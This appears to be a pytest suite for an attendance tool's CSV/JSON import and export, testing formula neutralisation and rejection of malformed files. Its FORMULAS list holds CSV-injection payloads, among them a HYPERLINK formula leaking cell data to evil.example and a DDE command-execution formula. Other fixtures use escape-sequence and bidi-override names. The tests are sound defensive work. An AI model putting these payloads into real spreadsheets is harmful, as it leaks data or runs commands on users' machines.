"""Imports read as a stranger's file; CSV exports a spreadsheet cannot run as formulas."""

import csv
import io
import json
import os
import subprocess
import sys

import pytest
from hypothesis import given
from hypothesis import strategies as st

from circle_tui.cli import main
from circle_tui.core.record import FIELDS
from circle_tui.storage.attendance import FILE_NAME, AttendanceLog
from circle_tui.storage.exchange import (
    MAX_DEPTH,
    MAX_IMPORT_BYTES,
    csv_text,
    neutralise,
    parse_export,
    restore,
)
from tests.support.helpers import record

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    "'quoted from the start",
    "''two quotes",
    "Tuesday = Thursday",
    "plain Tuesday circle",
]


def run(capsys, *argv):
    code = main(list(argv))
    out = capsys.readouterr()
    return code, out.out, out.err


@pytest.fixture
def log_bytes(isolated_dirs):
    """A log with one session in it, and a way to read its exact bytes."""
    log, _ = AttendanceLog.open(isolated_dirs["data"])
    log.save(record())
    path = isolated_dirs["data"] / FILE_NAME
    return path.read_bytes


def import_file(capsys, tmp_path, content, name="import.csv"):
    path = tmp_path / name
    path.write_bytes(content if isinstance(content, bytes) else content.encode("utf-8"))
    code, out, err = run(capsys, "attendance", "import", str(path))
    return code, out, err, str(path)


# -- spreadsheet-safe CSV --------------------------------------------------------------------
def test_formula_cells_are_neutralised_with_a_leading_quote(isolated_dirs, capsys):
    log, _ = AttendanceLog.open(isolated_dirs["data"])
    for name in FORMULAS:
        log.save(record(circle=name))
    _, out, _ = run(capsys, "attendance", "--format", "csv")
    cells = [row[1] for row in csv.reader(io.StringIO(out))][1:]
    assert sorted(cells) == sorted("'" + n if n[0] in "=+-@'" else n for n in FORMULAS)
    assert not [c for c in cells if c[0] in "=+-@\t\r"]


def test_export_import_export_is_byte_identical_with_formula_payloads(
    isolated_dirs, capsys, tmp_path
):
    log, _ = AttendanceLog.open(isolated_dirs["data"])
    for name in FORMULAS:
        log.save(record(circle=name))
    for fmt in ("csv", "json"):
        _, first, _ = run(capsys, "attendance", "--format", fmt)
        export = tmp_path / f"export.{fmt}"
        export.write_text(first, encoding="utf-8", newline="")
        other = tmp_path / f"other-{fmt}"
        code, said, err = run(capsys, "--data-dir", str(other), "attendance", "import", str(export))
        assert code == 0, err
        _, second, _ = run(capsys, "--data-dir", str(other), "attendance", "--format", fmt)
        assert second == first
        assert {r.circle for r in AttendanceLog.read_only(other).records()} == set(FORMULAS)


@given(st.text())
def test_restore_undoes_neutralise_for_any_text(cell):
    assert restore(neutralise(cell)) == cell


def test_a_cell_a_person_began_with_a_quote_is_kept_as_typed():
    assert restore("'Tuesday") == "'Tuesday"


def test_a_line_break_in_a_name_from_an_older_log_never_breaks_a_csv_row(tmp_path):
    """Records never hold one now; an older log's reads as a code, one session a row."""
    from circle_tui.storage.attendance import AttendanceLog
    from tests.support.helpers import old_log

    old_log(tmp_path, "two\rlines", "two\nlines")
    text = csv_text(AttendanceLog.read_only(tmp_path).records())
    rows = text.split("\r\n")
    assert len(rows) == 4 and rows[-1] == ""  # heading, two sessions, the final line end
    assert "two\\x0dlines" in rows[1] and "two\\x0alines" in rows[2]


# -- what spreadsheets and editors save -------------------------------------------------------
def export_of(records, fmt):
    if fmt == "csv":
        return csv_text(records)
    return json.dumps([r.to_dict() for r in records], indent=2) + "\n"


@pytest.mark.parametrize("fmt", ["csv", "json"])
@pytest.mark.parametrize(
    "saved",
    [
        lambda t: "\ufeff" + t,  # Excel's "CSV UTF-8"
        lambda t: t.replace("\r\n", "\n").replace("\n", "\r\n"),
        lambda t: t.replace("\r\n", "\n").replace("\n", "\r"),  # classic Mac line ends
        lambda t: t + ",,,,,,,,\r\n\r\n,,,,,,,,\r\n" if t.startswith("id") else t + "\n\n\n",
        lambda t: "\ufeff" + t.replace("\r\n", "\n").replace("\n", "\r"),
    ],
    ids=["bom", "crlf", "cr", "trailing-empty-rows", "bom-and-cr"],
)
def test_files_as_spreadsheets_and_editors_save_them_are_imported(
    isolated_dirs, capsys, tmp_path, fmt, saved
):
    records = [record("2026-10-01", "Tuesday circle"), record("2026-10-08", "Friday, late")]
    code, out, err, _ = import_file(capsys, tmp_path, saved(export_of(records, fmt)))
    assert code == 0, err
    assert "imported 2 sessions" in out
    assert AttendanceLog.read_only(isolated_dirs["data"]).records() == records


SHEET = (
    "Circle,Date,Started,Ended,Present,Newcomers,Returning\r\n"
    "Tuesday circle,2026-10-06,9:05,21:00:00,11,4,2\r\n"
    '"Friday, late",2026-10-09,18:00:00,,5,1,\r\n'
)


@pytest.mark.parametrize(
    "sheet",
    [
        SHEET,
        SHEET.replace(",", ";").replace('"Friday; late"', '"Friday, late"'),  # Spanish Excel
        SHEET.replace(",", "\t").replace('"Friday\t late"', '"Friday, late"'),
    ],
    ids=["comma", "semicolon", "tab"],
)
def test_a_sheet_typed_and_saved_by_a_spreadsheet_is_imported(
    isolated_dirs, capsys, tmp_path, sheet
):
    """Capitalised headings, an hour without its 0, times with seconds, `;` or tab between."""
    code, out, err, _ = import_file(capsys, tmp_path, "\ufeff" + sheet)
    assert code == 0, err
    assert "imported 2 sessions" in out
    got = sorted(AttendanceLog.read_only(isolated_dirs["data"]).records(), key=lambda r: r.date)
    assert [(r.circle, r.started, r.ended, r.present, r.newcomers, r.returning) for r in got] == [
        ("Tuesday circle", "09:05", "21:00", 11, 4, 2),
        ("Friday, late", "18:00", "", 5, 1, None),
    ]


def test_an_unclosed_quote_is_named_as_such_and_nothing_is_imported(log_bytes, capsys, tmp_path):
    before = log_bytes()
    text = SHEET.replace('"Friday, late"', '"Friday, late')
    text += "Tuesday circle,2026-10-13,19:00,,8,0,\r\n"
    code, _, err, path = import_file(capsys, tmp_path, text)
    assert code == 2
    assert f"{path}:3: a quote opened in this row is never closed" in err
    assert log_bytes() == before


def test_a_bad_row_in_a_cr_only_file_names_its_line(isolated_dirs, capsys, tmp_path):
    good = record()
    text = csv_text([good, record(), record()]).replace("\r\n", "\r")
    text = text.replace(",9,3,", ",9,x3,", 1)
    code, _, err, path = import_file(capsys, tmp_path, text)
    assert code == 2 and f"{path}:2: newcomers: expected a whole number, got 'x3'" in err


# -- anything else: FILE:LINE: field: what is wrong, exit 2, the log unchanged --------------
GOOD = record().to_dict()
HEADER = ",".join(FIELDS)


def csv_row(**changes):
    row = {**GOOD, **changes}
    return ",".join("" if row[f] is None else str(row[f]) for f in FIELDS)  # None: not counted


BAD_FILES = [
    pytest.param(
        f"{HEADER}\n{csv_row()}\n{csv_row(present='9' * 5000)}\n",
        ":3: present: a number of 5,000 digits; expected 0 to 10,000",
        id="csv-too-many-digits",
    ),
    pytest.param(
        json.dumps([GOOD]).replace('"present": 9', '"present": ' + "9" * 5000),
        ":1: present: a number of 5,000 digits; expected 0 to 10,000",
        id="json-too-many-digits",
    ),
    pytest.param(
        "[\n" + "[" * 100_000 + "]" * 100_000 + "\n]",
        f":2: nested more than {MAX_DEPTH} levels deep",
        id="json-deep-nesting",
    ),
    pytest.param(
        json.dumps([GOOD]).replace('"present": 9', '"present": 9, "present": 90'),
        ":1: present: given twice in one record",
        id="json-repeated-key",
    ),
    pytest.param(
        f"{HEADER}\n{csv_row(circle='Tue' + chr(27) + '[2Jday')}\n",
        ":2: circle: a control character (U+001B, escape) at character 4",
        id="csv-escape-in-name",
    ),
    pytest.param(
        json.dumps([{**GOOD, "circle": "Tuesday \u202egnp.exe"}]),
        ":1: circle: a text-direction control (U+202E, right-to-left override)",
        id="json-bidi-override",
    ),
    pytest.param(
        json.dumps([GOOD]).replace('"circle": "Tuesday circle"', '"circle": "Tue\\ud800"'),
        ":1: circle: a lone surrogate (U+D800)",
        id="json-lone-surrogate",
    ),
    pytest.param(
        f"{HEADER}\n{csv_row(circle='x' * 5000)}\n",
        ":2: circle: 5,000 characters, over the limit of 1,000",
        id="csv-field-too-long",
    ),
    pytest.param(
        f"{HEADER}\n{csv_row()},extra\n", ":2: 11 cells; the header has 10", id="csv-extra-cell"
    ),
    pytest.param(f"{HEADER}\n{GOOD['id']},Tuesday\n", ":2: 2 cells", id="csv-short-row"),
    pytest.param(f"{HEADER}\n{GOOD['id']}\n", ":2: 1 cell; the header", id="csv-one-cell"),
    pytest.param(
        f"{HEADER}\n{csv_row(present='²')}\n",
        ":2: present: expected a whole number, got '²'",
        id="csv-superscript-digit",
    ),
    pytest.param(
        f"{HEADER}\n{csv_row(present='--5')}\n",
        ":2: present: expected a whole number, got '--5'",
        id="csv-double-minus",
    ),
    pytest.param(
        json.dumps([GOOD]) + " trailing", ":1: text after the closing `]`", id="json-trailing"
    ),
    pytest.param(json.dumps([GOOD])[:-1] + ",]", ":1: a comma before the closing", id="json-comma"),
    pytest.param(json.dumps([GOOD])[:-1], ":1: the JSON list is not closed", id="json-unclosed"),
    pytest.param(
        json.dumps({"sessions": {}}), ":1: a JSON object, not a list of records", id="json-object"
    ),
    pytest.param(
        json.dumps([{**GOOD, "x" * 5000: 1}]),
        ":1: xxxxxxxxxxxxxxxxxxxxxxxx…: unknown field",
        id="json-huge-key",
    ),
    pytest.param("", ":1: no header", id="empty"),
    pytest.param(b"id,circle\n\xff\xfe\n", ":2: not UTF-8 text", id="not-utf8"),
]


@pytest.mark.parametrize(("content", "message"), BAD_FILES)
def test_a_bad_file_gets_its_line_and_field_exit_2_and_the_log_is_unchanged(
    log_bytes, capsys, tmp_path, content, message
):
    before = log_bytes()
    code, out, err, path = import_file(capsys, tmp_path, content)
    assert code == 2 and out == ""
    assert f"{path}{message}" in err
    assert "nothing imported" in err and "Traceback" not in err
    assert log_bytes() == before


def test_a_row_with_several_problems_names_each_at_once(log_bytes, capsys, tmp_path):
    """A host fixing a sheet sees everything wrong with a row in one go, not one per try;
    a sum is not checked over counts that are not numbers."""
    before = log_bytes()
    row = csv_row(date="31/02/2026", present="nine", newcomers="3", status="done")
    code, _, err, path = import_file(capsys, tmp_path, f"{HEADER}\n{row}\n")
    assert code == 2
    said = [line for line in err.splitlines() if line.startswith(f"{path}:2: ")]
    assert [line.split(": ")[1] for line in said] == ["date", "present", "status"]
    assert f"{path}:2: present: expected a whole number, got 'nine'" in err
    assert "nothing imported: 3 problems in" in err
    bad = {**GOOD, "date": "2026-13-01", "newcomers": 12, "ended": "late", "colour": "red"}
    code, _, err, path = import_file(capsys, tmp_path, json.dumps([bad]), "bad.json")
    said = [line.split(": ")[1] for line in err.splitlines() if line.startswith(f"{path}:1: ")]
    assert said == ["colour", "date", "ended", "newcomers"]
    assert "12 newcomers is more than 9 present" in err
    # A sum is checked when the counts it reads are numbers, whatever else is wrong; a date
    # the reader could not make out is told once, even with a control character in it.
    row = csv_row(date="3\x07/13/2026", present="3", newcomers="5", returning="x")
    code, _, err, path = import_file(capsys, tmp_path, f"{HEADER}\n{row}\n", "sums.csv")
    said = [line.split(": ")[1] for line in err.splitlines() if line.startswith(f"{path}:2: ")]
    assert said == ["date", "newcomers", "returning"], err
    assert "5 newcomers is more than 3 present" in err
    assert log_bytes() == before


def test_two_rows_with_one_id_name_both_lines(log_bytes, capsys, tmp_path):
    before = log_bytes()
    twin = record()
    text = csv_text([twin, record(), twin._replace(present=12)])
    code, _, err, path = import_file(capsys, tmp_path, text)
    assert code == 2
    assert f"{path}:4: id: the same id as line 2; one session would hide the other" in err
    code, _, err, path = import_file(
        capsys, tmp_path, json.dumps([twin.to_dict(), twin.to_dict()], indent=1), "twin.json"
    )
    assert code == 2 and f"{path}:14: id: the same id as line 2" in err  # schema 2: 10 fields
    assert log_bytes() == before


def test_an_oversized_file_is_refused_before_it_is_read(log_bytes, capsys, tmp_path):
    before = log_bytes()
    big = tmp_path / "big.csv"
    with open(big, "wb") as f:
        f.truncate(MAX_IMPORT_BYTES + 1)  # sparse: no disk used
    code, _, err = run(capsys, "attendance", "import", str(big))
    assert code == 2 and f"{big}: the file is over the 16 MiB limit (16,777,217 bytes)" in err
    assert log_bytes() == before


@pytest.mark.parametrize("kind", ["fifo", "directory", "device"])
def test_a_fifo_device_or_directory_is_refused_without_hanging(log_bytes, tmp_path, kind):
    before = log_bytes()
    target = {"fifo": tmp_path / "pipe.csv", "directory": tmp_path, "device": "/dev/zero"}[kind]
    if kind == "fifo":
        os.mkfifo(target)
    done = subprocess.run(
        [sys.executable, "-m", "circle_tui", "attendance", "import", str(target)],
        capture_output=True,
        text=True,
        timeout=30,  # a FIFO opened for reading would wait here for a writer, forever
    )
    assert done.returncode == 2
    assert "not a regular file" in done.stderr and "Traceback" not in done.stderr
    assert log_bytes() == before


def test_many_bad_rows_show_the_first_twenty_and_a_count(log_bytes, capsys, tmp_path):
    rows = "\n".join(csv_row(id=record().id, present="x") for _ in range(50))
    code, _, err, _ = import_file(capsys, tmp_path, f"{HEADER}\n{rows}\n")
    lines = err.splitlines()
    assert code == 2 and len(lines) == 22
    assert lines[20] == "… and 30 more" and "50 problems" in lines[21]


def test_parse_export_names_lines_from_bytes_directly():
    records, problems, *_ = parse_export(b"\xef\xbb\xbf" + csv_text([record()]).encode(), "x.csv")
    assert len(records) == 1 and problems == []


def nested(levels):
    return "[" * levels + '"x"' + "]" * levels


@pytest.mark.parametrize(
    ("lists", "message"),
    [
        (MAX_DEPTH - 2, "circle: expected text, got list"),  # the list, the record, and these
        (MAX_DEPTH - 1, f"nested more than {MAX_DEPTH} levels deep"),
        (5000, f"nested more than {MAX_DEPTH} levels deep"),  # past Python's recursion limit
    ],
)
def test_nesting_is_capped_at_max_depth_with_its_own_message(
    log_bytes, capsys, tmp_path, lists, message
):
    text = "[\n" + json.dumps({**GOOD, "circle": "@@"}).replace('"@@"', nested(lists))
    code, _, err, path = import_file(capsys, tmp_path, text + "\n]\n", "deep.json")
    assert code == 2 and f"{path}:2: {message}" in err


# -- dates as spreadsheets save them ---------------------------------------------------------
def sheet_with_dates(*dates: str, sep: str = ",") -> str:
    rows = [sep.join(("circle", "date", "started", "present", "newcomers"))]
    rows += [sep.join(("Tuesday circle", day, "19:30:00", "8", "1")) for day in dates]
    return "\r\n".join(rows) + "\r\n"


def imported_dates(data_dir) -> list[str]:
    return [r.date for r in AttendanceLog.read_only(data_dir).records()]


@pytest.mark.parametrize(
    ("dates", "want"),
    [
        # A Spanish LibreOffice: day first, and 28 tells; 03/11 is then 3 November.
        (("28/11/2025", "03/11/2025"), ["2025-11-03", "2025-11-28"]),
        # An American Excel: month first, and 28 in second place tells.
        (("11/28/2025", "11/03/2025"), ["2025-11-03", "2025-11-28"]),
        # German and others: dots are always day first, even when nothing else tells.
        (("3.11.2025", "4.11.2025"), ["2025-11-03", "2025-11-04"]),
        # Year first with slashes (Japanese and Chinese locales), and a midnight appended.
        (("2025/11/3", "2025-11-04 00:00:00"), ["2025-11-03", "2025-11-04"]),
    ],
    ids=["dd/mm/yyyy", "mm/dd/yyyy", "d.m.yyyy", "yyyy/m/d"],
)
def test_dates_in_every_order_spreadsheets_write_them_import_without_asking(
    isolated_dirs, capsys, tmp_path, dates, want
):
    code, out, err, _ = import_file(capsys, tmp_path, sheet_with_dates(*dates, sep=";"))
    assert code == 0, err
    assert "imported 2 sessions" in out and imported_dates(isolated_dirs["data"]) == want


def test_a_file_whose_dates_cannot_tell_the_order_asks_for_it_by_file_and_option(
    log_bytes, isolated_dirs, capsys, tmp_path
):
    before = log_bytes()
    ambiguous = sheet_with_dates("03/04/2025", "05/04/2025")
    code, out, err, path = import_file(capsys, tmp_path, ambiguous)
    assert code == 2 and out == ""
    assert err.splitlines()[0] == (
        f"{path}:2: date: dates such as 03/04/2025 could be day first or month first, and no "
        "date in the file has a day above 12 to tell; import again with --date-order dmy "
        "(day first: 2025-04-03) or --date-order mdy (month first: 2025-03-04)"
    )
    assert "nothing imported: 1 problem" in err and log_bytes() == before
    code, _, _ = run(capsys, "attendance", "import", path, "--date-order", "mdy")
    assert code == 0
    assert imported_dates(isolated_dirs["data"]) == ["2025-03-04", "2025-05-04", "2026-11-24"]


def test_date_order_given_reads_the_file_that_way(isolated_dirs, capsys, tmp_path):
    path = tmp_path / "sheet.csv"
    path.write_text(sheet_with_dates("03/04/2025", "05/04/2025"), encoding="utf-8")
    code, _, err = run(capsys, "attendance", "import", str(path), "--date-order", "dmy")
    assert code == 0, err
    assert imported_dates(isolated_dirs["data"]) == ["2025-04-03", "2025-04-05"]


@pytest.mark.parametrize(
    ("dates", "problem"),
    [
        (
            ("28/11/2025", "11/28/2025"),
            ":3: date: line 2 has the day first (28/11/2025), line 3 "
            "the month first (11/28/2025); give every date in one "
            "order — in the spreadsheet, format the date column",
        ),
        (
            ("31/02/2025", "28/11/2025"),
            ":2: date: '31/02/2025' is no day of the calendar (read "
            "day first); in the spreadsheet, format the date column "
            "as a date with a four-digit year",
        ),
        (
            ("28/11/25",),
            ":2: date: '28/11/25': a two-digit year; in the spreadsheet, format the "
            "date column as a date with a four-digit year (Format ▸ Cells ▸ Date: "
            "2026-11-28 or 28/11/2026), then save as CSV again",
        ),
        (("28 Nov 2025",), ":2: date: '28 Nov 2025' is not a date; in the spreadsheet, format"),
    ],
    ids=["mixed-orders", "no-such-day", "two-digit-year", "words"],
)
def test_a_bad_date_says_how_to_fix_the_column_in_a_spreadsheet(
    log_bytes, capsys, tmp_path, dates, problem
):
    before = log_bytes()
    code, _, err, path = import_file(capsys, tmp_path, sheet_with_dates(*dates))
    assert code == 2 and f"{path}{problem}" in err
    assert log_bytes() == before


def test_times_as_an_english_excel_writes_them_import(isolated_dirs, capsys, tmp_path):
    text = sheet_with_dates("2025-11-04").replace("19:30:00", "7:30 PM")
    text += "Tuesday circle,2025-11-05,12:15 AM,8,1\r\n"
    code, _, err, _ = import_file(capsys, tmp_path, text)
    assert code == 0, err
    starts = [r.started for r in AttendanceLog.read_only(isolated_dirs["data"]).records()]
    assert starts == ["19:30", "00:15"]


# -- exports a spreadsheet opens right -------------------------------------------------------
@pytest.mark.parametrize(
    "argv",
    [["attendance", "--excel"], ["attendance", "summary", "--by", "circle", "--excel"]],
)
def test_an_excel_export_has_a_bom_and_semicolons_as_csv_sniffer_reads_it(
    isolated_dirs, capsys, argv
):
    log, _ = AttendanceLog.open(isolated_dirs["data"])
    for r in (record("2026-10-06", "Tuesday, late"), record("2026-10-13", present=10)):
        log.save(r)
    code, out, _ = run(capsys, *argv)
    assert code == 0 and out.startswith("\ufeff")
    dialect = csv.Sniffer().sniff(out[1:])
    assert dialect.delimiter == ";"
    rows = list(csv.reader(io.StringIO(out[1:]), dialect))
    assert len(rows) == 3 and all(len(row) == len(rows[0]) for row in rows)


def test_an_excel_export_in_spanish_writes_decimal_commas_and_imports_back(
    isolated_dirs, capsys, tmp_path
):
    from circle_tui import i18n

    log, _ = AttendanceLog.open(isolated_dirs["data"])
    saved = [record("2026-10-06", "Martes, tarde", 9), record("2026-10-13", present=10)]
    for r in saved:
        log.save(r)
    log.close()
    isolated_dirs["config"].parent.mkdir(parents=True, exist_ok=True)
    isolated_dirs["config"].write_text('language = "es"\n', encoding="utf-8")
    try:
        _, summary, _ = run(capsys, "attendance", "summary", "--by", "circle", "--excel")
        _, export, _ = run(capsys, "attendance", "--excel")
    finally:
        i18n.use("en")
    assert summary.splitlines()[1].startswith("Martes, tarde;1;9;9,0;3;;;0;0")
    (tmp_path / "excel.csv").write_text(export, encoding="utf-8", newline="")
    other = tmp_path / "other"
    code, _, err = run(capsys, "--data-dir", str(other), "attendance", "import",
                       str(tmp_path / "excel.csv"))  # fmt: skip
    assert code == 0, err
    assert AttendanceLog.read_only(other).records() == sorted(saved, key=lambda r: r.date)


def test_excel_is_csv_and_refuses_json(isolated_dirs, capsys):
    code, _, err = run(capsys, "attendance", "--excel", "--format", "json")
    assert code == 2 and "--excel writes CSV; leave out --format json" in err
